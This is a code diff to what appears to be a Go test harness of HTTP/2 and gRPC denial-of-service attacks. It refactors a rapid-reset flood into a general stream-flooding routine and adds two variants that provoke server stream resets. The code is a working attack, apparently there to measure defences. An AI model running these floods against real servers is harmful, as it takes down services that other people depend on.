@@ -166,6 +166,20 @@ var attacks = append([]attackRow{
 			a.rapidReset(grpcHead())
 		}
 	}},
+	{"gRPC resets by the server: windows of 0", 20, setting{grpc: true, envoy: true, rules: 1}, func(a *target) {
+		for a.on() {
+			a.rapidStreams(func(b []byte, stream uint32) []byte {
+				return frame(frame(b, 1, 4, stream, grpcHead()), 8, 0, stream, make([]byte, 4)) // HEADERS, WINDOW_UPDATE
+			})
+		}
+	}},
+	{"gRPC resets by the server: data after the end", 20, setting{grpc: true, envoy: true, rules: 1}, func(a *target) {
+		for a.on() {
+			a.rapidStreams(func(b []byte, stream uint32) []byte {
+				return frame(frame(b, 1, 5, stream, grpcHead()), 0, 0, stream, make([]byte, 5)) // HEADERS, DATA
+			})
+		}
+	}},
 	{"gRPC half messages", 1000, setting{grpc: true}, func(a *target) {
 		for a.on() {
 			a.halfMessages()
@@ -317,6 +331,13 @@ func (a *target) streams(n int, open func(b []byte, stream uint32) []byte) {
 
 // rapidReset opens streams and resets each at once, on one connection.
 func (a *target) rapidReset(head []byte) {
+	a.rapidStreams(func(b []byte, stream uint32) []byte {
+		return frame(frame(b, 1, 5, stream, head), 3, 0, stream, []byte{0, 0, 0, 8}) // HEADERS, RST_STREAM
+	})
+}
+
+// rapidStreams opens streams on one connection as fast as it can.
+func (a *target) rapidStreams(open func(b []byte, stream uint32) []byte) {
 	c, err := net.Dial("tcp", a.addr)
 	if err != nil {
 		return
@@ -325,7 +346,7 @@ func (a *target) rapidReset(head []byte) {
 	go func() { _, _ = io.Copy(io.Discard, c) }()
 	b := http2Start()
 	for stream := uint32(1); a.on() && stream < 1<<20; stream += 2 {
-		b = frame(frame(b, 1, 5, stream, head), 3, 0, stream, []byte{0, 0, 0, 8}) // HEADERS, RST_STREAM
+		b = open(b, stream)
 		a.made.Add(1)
 		if len(b) > 16<<10 {
 			_ = c.SetWriteDeadline(time.Now().Add(time.Second))
